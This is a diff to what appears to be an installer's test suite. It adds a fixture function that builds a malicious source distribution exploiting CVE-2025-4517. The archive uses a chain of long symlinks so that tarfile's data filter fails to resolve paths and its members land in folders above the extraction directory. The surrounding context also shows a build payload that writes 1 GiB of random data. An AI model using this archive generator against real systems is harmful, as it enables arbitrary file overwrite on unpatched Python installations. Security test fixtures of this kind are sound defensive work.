@@ -290,3 +290,44 @@ if phase == "build":
         for _ in range(64):
             f.write(os.urandom(1 << 20) * 16)  # 1 GiB in all
 """
+
+
+def escaping_sdist(dest: Path, name: str, unpacked_at: Path, up: int, files: dict) -> Path:
+    """An sdist whose members pass every check of names and links, read as text, yet land
+    `up` folders above the one it is unpacked in (`unpacked_at`) when tarfile resolves
+    them: a chain of links whose real path outgrows PATH_MAX, where Python's
+    `os.path.realpath` (which tarfile's `data` filter asks) stops resolving
+    (CVE-2025-4517, in Python before 3.11.13 and 3.12.11)."""
+    root = f"{name}-1.0"
+    hops = "abcdefghijklmnop"
+    # each hop's folder name long enough that the whole chain passes 4096 characters
+    width = (4096 - len(str(unpacked_at)) - len(root) - 2) // (len(hops) + 1)
+    folder = "d" * width
+    members: list[tarfile.TarInfo] = []
+    data: dict[str, bytes] = {}
+
+    def member(path: str, kind: bytes = tarfile.REGTYPE, link: str = "", body: bytes = b""):
+        info = tarfile.TarInfo(path)
+        info.type, info.mtime, info.mode, info.linkname = kind, MTIME, 0o755, link
+        info.size = len(body) if kind == tarfile.REGTYPE else 0
+        members.append(info)
+        data[path] = body
+
+    member(f"{root}/pyproject.toml", body=b"[build-system]\nrequires = []\n")
+    member(f"{root}/setup.py", body=b"")
+    path = root
+    for hop in hops:
+        member(f"{path}/{folder}", tarfile.DIRTYPE)
+        member(f"{path}/{hop}", tarfile.SYMTYPE, folder)
+        path = f"{path}/{folder}"
+    through = "/".join(hops) + "/" + "l" * 254
+    member(f"{root}/{through}", tarfile.SYMTYPE, "/".join([".."] * len(hops)))
+    member(f"{root}/escape", tarfile.SYMTYPE, through + "/.." + "/.." * up)
+    for relative, body in files.items():
+        member(f"{root}/escape/{relative}", body=body)
+    dest.mkdir(parents=True, exist_ok=True)
+    sdist = dest / f"{root}.tar.gz"
+    with tarfile.open(sdist, "w:gz") as tar:
+        for info in members:
+            tar.addfile(info, io.BytesIO(data[info.name]) if info.isfile() else None)
+    return sdist
